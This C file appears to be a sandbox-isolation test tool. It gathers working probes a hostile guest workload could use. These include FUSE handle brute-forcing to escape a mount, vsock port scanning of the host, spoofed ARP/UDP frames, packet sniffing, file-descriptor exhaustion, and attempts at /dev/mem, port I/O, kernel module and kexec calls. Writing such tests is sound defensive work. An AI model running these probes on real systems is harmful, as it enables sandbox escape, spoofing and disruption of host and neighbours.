/*
 * What a hostile workload would bring along, and what the host looks with. Prints a line for each thing that worked.
 *
 * tool handles PATH          opens files of PATH's file system by handles of its own making, its top among them
 * tool vsock                 connects to ports of the host and of every other address
 * tool send LINK MAC IP TO   a UDP packet to TO from another MAC and address, and an ARP that claims the address
 * tool listen LINK SECONDS   MAC and IPv4 address of each frame that comes, once
 * tool files DIRECTORY COUNT    makes files and keeps them open until its end
 * tool machine               ways around the guest's kernel to its machine: memory, the devices' registers, ports
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

/* The root of a FUSE file system is number 1. */
static void top(int directory) {
  DIR *entries = fdopendir(dup(directory));
  for (struct dirent *entry; entries && (entry = readdir(entries));)
    if (entry->d_name[0] != '.') printf("top %s\n", entry->d_name);
  const char *areas[] = {"new", "c/new", "v/new", "base/new"};
  for (unsigned i = 0; i < sizeof areas / sizeof *areas; i++)
    if (openat(directory, areas[i], O_WRONLY | O_CREAT, 0600) >= 0) printf("wrote %s\n", areas[i]);
  const char *inner[] = {"c", "v"};
  for (unsigned i = 0; i < 2; i++) {
    DIR *area = fdopendir(openat(directory, inner[i], O_RDONLY | O_DIRECTORY));
    for (struct dirent *entry; area && (entry = readdir(area));)
      if (entry->d_name[0] != '.') printf("%s %s\n", inner[i], entry->d_name);
  }
}

static int handles(const char *directory) {
  int mount = open(directory, O_RDONLY);
  unsigned opened = 0;
  for (uint64_t node = 0; node < 3000; node++) {
    struct {
      struct file_handle head;
      uint32_t words[3];
    } handle = {.head = {.handle_bytes = 12, .handle_type = 0x81}}; /* FUSE: number of the node, generation */
    uint32_t words[3] = {(uint32_t)(node >> 32), (uint32_t)node, 0};
    memcpy(handle.head.f_handle, words, sizeof words);
    int file = open_by_handle_at(mount, &handle.head, O_RDONLY);
    if (file < 0) continue;
    opened++;
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    if (faccessat(file, "etc/shadow-", F_OK, 0) == 0 || faccessat(file, "canary", F_OK, 0) == 0)
      printf("outside %llu %s\n", (unsigned long long)node, target);
    if (node == 1) top(file);
    close(file);
  }
  printf("opened %u\n", opened);
  return 0;
}

static int vsock(void) {
  const unsigned cids[] = {0, 1, 2, 3, 4, 5, 100};
  unsigned tried = 0;
  for (unsigned c = 0; c < sizeof cids / sizeof *cids; c++) {
    for (unsigned port = 1; port < 1200; port += port < 1000 ? 37 : 1) {
      int s = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK, 0);
      if (s < 0) continue;
      tried++;
      struct sockaddr_vm address = {.svm_family = AF_VSOCK, .svm_cid = cids[c], .svm_port = port};
      int failed = connect(s, (struct sockaddr *)&address, sizeof address);
      if (failed && errno == EINPROGRESS) {
        struct pollfd done = {s, POLLOUT, 0};
        socklen_t size = sizeof failed;
        if (poll(&done, 1, 20) == 1) getsockopt(s, SOL_SOCKET, SO_ERROR, &failed, &size);
      }
      if (failed == 0) printf("connected %u %u\n", cids[c], port);
      close(s);
    }
  }
  printf("tried %u\n", tried);
  return 0;
}

static void mac_of(const char *text, uint8_t *out) {
  for (int i = 0; i < 6; i++) out[i] = (uint8_t)strtoul(text + 3 * i, 0, 16);
}

static int transmit(char **argv) {
  uint8_t from[6];
  mac_of(argv[1], from);
  uint32_t ip = inet_addr(argv[2]), to = inet_addr(argv[3]);
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[0]), .sll_halen = 6};
  memset(link.sll_addr, 0xff, 6);
  uint8_t frame[60] = {0};
  memset(frame, 0xff, 6);
  memcpy(frame + 6, from, 6);
  const uint8_t arp[] = {8, 6, 0, 1, 8, 0, 6, 4, 0, 1}; /* a request: who has what the sender claims to have */
  memcpy(frame + 12, arp, sizeof arp);
  memcpy(frame + 22, from, 6);
  memcpy(frame + 28, &ip, 4);
  memcpy(frame + 38, &ip, 4);
  if (sendto(s, frame, sizeof frame, 0, (struct sockaddr *)&link, sizeof link) < 0) return 1;
  uint8_t udp[60] = {0};
  memset(udp, 0xff, 6);
  memcpy(udp + 6, from, 6);
  const uint8_t head[] = {8, 0, 0x45, 0, 0, 46, 0, 0, 0, 0, 64, 17};
  memcpy(udp + 12, head, sizeof head);
  memcpy(udp + 26, &ip, 4);
  memcpy(udp + 30, &to, 4);
  uint32_t sum = 0;
  for (int i = 14; i < 34; i += 2) sum += (uint32_t)(udp[i] << 8 | udp[i + 1]);
  sum = (sum & 0xffff) + (sum >> 16);
  sum = ~(sum + (sum >> 16));
  udp[24] = (uint8_t)(sum >> 8);
  udp[25] = (uint8_t)sum;
  udp[34] = udp[36] = 0x23;
  udp[39] = 26;
  if (sendto(s, udp, sizeof udp, 0, (struct sockaddr *)&link, sizeof link) < 0) return 1;
  puts("sent");
  return 0;
}

static int listen_on(const char *name, int seconds) {
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct sockaddr_ll link = {
      .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(name)};
  if (bind(s, (struct sockaddr *)&link, sizeof link)) return 1;
  setvbuf(stdout, 0, _IOLBF, 0);
  puts("listening");
  time_t end = time(0) + seconds;
  while (time(0) < end) {
    struct pollfd ready = {s, POLLIN, 0};
    if (poll(&ready, 1, 100) != 1) continue;
    uint8_t f[2048];
    if (recv(s, f, sizeof f, 0) < 42) continue;
    const uint8_t *ip = f[12] == 8 && f[13] == 0 ? f + 26 : f + 28;
    printf("%02x:%02x:%02x:%02x:%02x:%02x %d.%d.%d.%d %s\n", f[6], f[7], f[8], f[9], f[10], f[11], ip[0], ip[1], ip[2],
           ip[3], f[13] == 6 ? "arp" : "ip");
  }
  return 0;
}

static int files(const char *directory, int count) {
  struct rlimit all = {(rlim_t)count + 100, (rlim_t)count + 100};
  setrlimit(RLIMIT_NOFILE, &all);
  int made = 0;
  for (int i = 0; i < count; i++) {
    char path[4096];
    snprintf(path, sizeof path, "%s/f%d", directory, i);
    if (open(path, O_RDWR | O_CREAT, 0600) >= 0) made++;
  }
  printf("open %d\n", made);
  fflush(stdout);
  pause();
  return 0;
}

/* 0x74726976 at the beginning of a virtio-mmio device, by which its driver knows it. */
static void registers(int memory, off_t at) {
  volatile uint32_t *mapped = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, memory, at & ~(off_t)4095);
  if (mapped == MAP_FAILED) return;
  if (mapped[(at & 4095) / 4] == 0x74726976) printf("registers %llx\n", (unsigned long long)at);
}

static void tell_opening(const char *path, mode_t kind, unsigned major, unsigned minor) {
  int file = open(path, O_RDWR);
  char made[64];
  snprintf(made, sizeof made, "/dev/made-%u-%u", major, minor);
  if (file < 0 && kind && mknod(made, kind | 0600, makedev(major, minor)) == 0) file = open(made, O_RDWR);
  if (file >= 0) printf("opened %s\n", path);
  if (file >= 0) close(file);
}

static int machine(void) {
  mknod("/dev/made-mem", S_IFCHR | 0600, makedev(1, 1));
  int memory = open("/dev/made-mem", O_RDWR | O_SYNC);
  printf("tried /dev/mem: %s\n", memory < 0 ? strerror(errno) : "opened");
  FILE *map = fopen("/proc/iomem", "r");
  char line[256], page[8];
  while (memory >= 0 && map && fgets(line, sizeof line, map)) {
    unsigned long long begin = strtoull(line, 0, 16);
    if (strstr(line, "System RAM") && pread(memory, page, sizeof page, (off_t)begin) > 0) printf("ram %llx\n", begin);
    if (begin >= 0x10000000) registers(memory, (off_t)begin);
  }
  /* Where QEMU's microvm and libkrun have them, whatever is told. */
  for (off_t at = 0xfeb00000; memory >= 0 && at < 0xfeb04000; at += 512) registers(memory, at);
  for (off_t at = 0xd0000000; memory >= 0 && at < 0xd0010000; at += 4096) registers(memory, at);
  tell_opening("/dev/kmem", S_IFCHR, 1, 2);
  tell_opening("/dev/port", S_IFCHR, 1, 4);
  tell_opening("/dev/cpu/0/msr", S_IFCHR, 202, 0);
  tell_opening("/proc/kcore", 0, 0, 0);
  if (iopl(3) == 0) puts("iopl");
  if (ioperm(0x64, 1, 1) == 0) puts("ioperm");
  if (syscall(SYS_init_module, "", 0, "") == 0 || errno != ENOSYS) printf("init_module %s\n", strerror(errno));
  if (syscall(SYS_kexec_load, 0, 0, 0, 0) == 0 || errno != ENOSYS) printf("kexec_load %s\n", strerror(errno));
  return 0;
}

int main(int argc, char **argv) {
  const char *verb = argc > 1 ? argv[1] : "";
  if (argc == 3 && !strcmp(verb, "handles")) return handles(argv[2]);
  if (argc == 2 && !strcmp(verb, "vsock")) return vsock();
  if (argc == 6 && !strcmp(verb, "send")) return transmit(argv + 2);
  if (argc == 4 && !strcmp(verb, "listen")) return listen_on(argv[2], atoi(argv[3]));
  if (argc == 4 && !strcmp(verb, "files")) return files(argv[2], atoi(argv[3]));
  if (argc == 2 && !strcmp(verb, "machine")) return machine();
  return 2;
}
